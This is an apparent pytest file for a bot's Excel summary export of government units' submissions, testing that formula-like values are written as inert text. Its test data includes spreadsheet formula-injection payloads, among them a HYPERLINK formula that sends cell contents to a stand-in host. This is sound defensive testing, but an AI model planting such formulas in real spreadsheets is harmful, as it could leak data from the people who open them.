"""bot.workbooks: what we write to Excel stays inert text, and shows password-protected files."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from bot.db import Database
from bot.models import Indicator, Obligation, Submission, Unit
from bot.services.summary import summary
from bot.workbooks import summary_workbook
from tests.conftest import SEED_NOW

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A2,"点此查看")'


def submit(database: Database, unit: str, number: str, **columns: object) -> None:
    with database.uow() as uow:
        obligation = uow.session.scalar(
            select(Obligation)
            .join(Indicator)
            .join(Unit)
            .where(Unit.name == unit, Indicator.number == number)
        )
        assert obligation is not None
        values: dict[str, object] = {
            "filename": "材料.pdf",
            "sha256": "0" * 64,
            "storage_key": "aa/bb/x",
            "uploaded_at": SEED_NOW,
            **columns,
        }
        uow.session.add(Submission(obligation_id=obligation.id, version=1, **values))
        uow.commit()


def submissions_sheet(database: Database) -> list[dict[str, object]]:
    with database.uow() as uow:
        data = summary_workbook(summary(uow, SEED_NOW))
    sheet = load_workbook(BytesIO(data))["提交明细"]
    header = [cell.value for cell in sheet[1]]
    rows = []
    for row in sheet.iter_rows(min_row=2):
        rows.append({str(h): cell for h, cell in zip(header, row, strict=True)})
    return rows


def test_an_uploader_named_like_a_formula_is_written_as_that_text(seeded: Database) -> None:
    submit(seeded, "公安局", "4", uploader_name="=1+1", filename=f"{HYPERLINK}.pdf")
    submit(seeded, "财政局", "3", uploader_name="#N/A", review_comment="=SUM(A1:A9)")

    rows = {row["单位"].value: row for row in submissions_sheet(seeded)}  # type: ignore[union-attr]

    police, finance = rows["公安局"], rows["财政局"]
    for cell, text in (
        (police["上传人"], "=1+1"),
        (police["文件名"], f"{HYPERLINK}.pdf"),
        (finance["上传人"], "#N/A"),
        (finance["审核意见"], "=SUM(A1:A9)"),
    ):
        assert (cell.value, cell.data_type) == (text, "s")  # type: ignore[union-attr]


def test_unit_names_in_the_matrix_that_look_like_formulas_stay_text(
    seeded: Database, tmp_path: Path
) -> None:
    with seeded.uow() as uow:
        police = uow.session.scalar(select(Unit).where(Unit.name == "公安局"))
        assert police is not None
        police.name = "=1+1"
        uow.commit()
    with seeded.uow() as uow:
        data = summary_workbook(summary(uow, SEED_NOW))

    matrix = load_workbook(BytesIO(data))["汇总"]

    [cell] = [row[0] for row in matrix.iter_rows(min_row=4) if row[0].value == "=1+1"]
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for row in matrix.iter_rows() for c in row)


def test_a_password_protected_submission_is_marked_in_the_submissions_sheet(
    seeded: Database,
) -> None:
    submit(seeded, "公安局", "4", filename="加密.docx", password_protected=True)
    submit(seeded, "财政局", "3", filename="普通.docx")

    rows = {row["文件名"].value: row for row in submissions_sheet(seeded)}  # type: ignore[union-attr]

    assert rows["加密.docx"]["打开密码"].value == "需密码"  # type: ignore[union-attr]
    assert rows["普通.docx"]["打开密码"].value is None  # type: ignore[union-attr]
